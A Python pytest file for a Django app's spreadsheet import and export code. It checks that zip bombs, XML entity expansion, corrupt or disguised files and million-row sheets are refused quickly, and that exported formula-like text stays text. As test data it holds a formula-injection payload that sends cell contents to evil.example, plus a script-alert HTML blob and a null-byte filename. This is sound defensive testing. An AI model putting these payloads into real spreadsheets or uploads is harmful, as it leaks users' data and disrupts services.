"""Imports refuse damaged and oversized workbooks quickly with a clear message, and every
exported cell that would start a formula stays text (issue 9 item 3, core.sheets)."""

import io
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import Workbook, load_workbook

from core.errors import ApplicationError
from core.sheets import FORMULA_TRIGGERS, Column, check_upload, read_workbook, write_cell

COLUMNS = [Column("项目名称", "name", required=True), Column("金额", "amount")]
SHEET = "xl/worksheets/sheet1.xml"


def small_workbook(rows=(("项目名称", "金额"), ("甲项目", 100))) -> bytes:
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def with_sheet_xml(sheet_xml: bytes, *, compress=zipfile.ZIP_DEFLATED) -> bytes:
    """The small workbook with its first sheet's XML replaced."""
    source = zipfile.ZipFile(io.BytesIO(small_workbook()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=compress) as target:
        for info in source.infolist():
            data = sheet_xml if info.filename == SHEET else source.read(info.filename)
            target.writestr(info.filename, data)
    return out.getvalue()


def sheet_xml(rows: str, dimension: str | None = None) -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>"
        '<row r="1"><c r="A1" t="inlineStr"><is><t>项目名称</t></is></c></row>'
        f"{rows}</sheetData></worksheet>"
    ).encode()


def upload(data: bytes, name="清单.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


def refused(data: bytes, *, max_rows=1000, name="清单.xlsx") -> ApplicationError:
    started = time.monotonic()
    with translation.override("zh-hans"), pytest.raises(ApplicationError) as caught:
        file = upload(data, name)
        check_upload(file)
        read_workbook(file, COLUMNS, max_rows=max_rows, too_many="太多")
    assert time.monotonic() - started < 5, "refused, but too slowly"
    assert "file" in caught.value.fields
    assert "Error" not in caught.value.message and "{" not in caught.value.message
    return caught.value


def test_a_good_workbook_is_read():
    rows = read_workbook(upload(small_workbook()), COLUMNS, max_rows=10, too_many="太多")
    assert [(r.number, r.values["name"]) for r in rows] == [(2, "甲项目")]


def test_a_million_blank_rows_are_refused_within_seconds_by_the_declared_dimension():
    blank = "".join(f'<row r="{n}"/>' for n in range(2, 1_000_001))
    error = refused(with_sheet_xml(sheet_xml(blank, dimension="A1:B1000000")))
    assert error.code == "too_many_rows"
    assert "1000000" in error.message and "空行" in error.message


def test_a_million_blank_rows_are_refused_when_the_dimension_lies():
    blank = "".join(f'<row r="{n}"/>' for n in range(2, 1_000_001))
    error = refused(with_sheet_xml(sheet_xml(blank, dimension="A1:B2")))
    assert error.code == "too_many_rows"
    error = refused(with_sheet_xml(sheet_xml(blank)))
    assert error.code == "too_many_rows"


def test_one_far_away_cell_counts_the_blank_rows_before_it():
    far = '<row r="900000"><c r="A900000" t="inlineStr"><is><t>x</t></is></c></row>'
    assert refused(with_sheet_xml(sheet_xml(far))).code == "too_many_rows"


def test_too_many_cells_in_a_row_are_refused():
    wide = '<row r="2">' + "".join(f'<c r="XFD2"><v>{n}</v></c>' for n in range(1)) + "</row>"
    assert refused(with_sheet_xml(sheet_xml(wide))).code == "too_many_columns"
    assert refused(with_sheet_xml(sheet_xml("", dimension="A1:XFD2"))).code == "too_many_columns"


def test_a_zip_bomb_is_refused_before_it_is_opened():
    bomb = sheet_xml("<row r='2'/>") + b" " * (60 * 1024 * 1024)
    error = refused(with_sheet_xml(bomb))
    assert error.code == "too_large"


@pytest.mark.parametrize(
    "mangle",
    [
        pytest.param(lambda data: data[: len(data) // 2], id="truncated"),
        pytest.param(
            lambda data: with_sheet_xml(sheet_xml("").replace(b"<sheetData>", b"<sheetData")), id="broken-xml"
        ),
        pytest.param(lambda data: b"PK\x03\x04" + b"\x00" * 200, id="zip-header-only"),
        pytest.param(lambda data: b"<html><script>alert(1)</script></html>", id="html"),
        pytest.param(lambda data: b"", id="empty"),
    ],
)
def test_damaged_files_are_not_a_workbook(mangle):
    error = refused(mangle(with_sheet_xml(sheet_xml(""))))
    assert "Excel" in error.message


def test_corrupt_deflate_data_is_not_a_workbook():
    data = bytearray(with_sheet_xml(sheet_xml('<row r="2"><c r="A2"><v>1</v></c></row>' * 1)))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = archive.getinfo(SHEET)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 2, start + min(info.compress_size, 40)):
        data[i] ^= 0xFF  # zlib.error (or a CRC error) while reading
    error = refused(bytes(data))
    assert "Excel" in error.message


def test_a_file_that_is_not_xlsx_by_name_or_content_is_refused():
    assert "Excel" in refused(small_workbook(), name="list.xls").message
    assert "Excel" in refused(small_workbook(), name="list.xlsx\x00.exe").message
    docx_like = io.BytesIO()
    with zipfile.ZipFile(docx_like, "w") as z:
        z.writestr("word/document.xml", "<w/>")
    assert "Excel" in refused(docx_like.getvalue()).message


def test_too_many_data_rows_uses_the_import_message():
    rows = [("项目名称", "金额")] + [(f"项目{n}", n) for n in range(12)]
    with pytest.raises(ApplicationError) as caught:
        read_workbook(upload(small_workbook(rows)), COLUMNS, max_rows=10, too_many="每个文件最多10个项目")
    assert caught.value.message == "每个文件最多10个项目"


# --- writing -----------------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_text_that_would_start_a_formula_is_written_as_text(trigger):
    wb = Workbook()
    value = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"点此")'
    write_cell(wb.active, 1, 1, value)
    write_cell(wb.active, 1, 2, "普通文本")
    write_cell(wb.active, 1, 3, -5)
    buffer = io.BytesIO()
    wb.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as z:
        xml = z.read(SHEET).decode()
    assert "<f>" not in xml
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert cell.value.endswith('HYPERLINK("http://evil.example/?"&A1,"点此")')
    assert load_workbook(io.BytesIO(buffer.getvalue())).active["C1"].value == -5


def test_characters_the_format_cannot_hold_are_dropped_not_a_500():
    wb = Workbook()
    write_cell(wb.active, 1, 1, "标题\x00\x1b带控制字符")
    buffer = io.BytesIO()
    wb.save(buffer)
    assert load_workbook(io.BytesIO(buffer.getvalue())).active["A1"].value == "标题带控制字符"


def test_a_worksheet_with_entities_is_refused():
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    assert "Excel" in refused(with_sheet_xml(laughs)).message
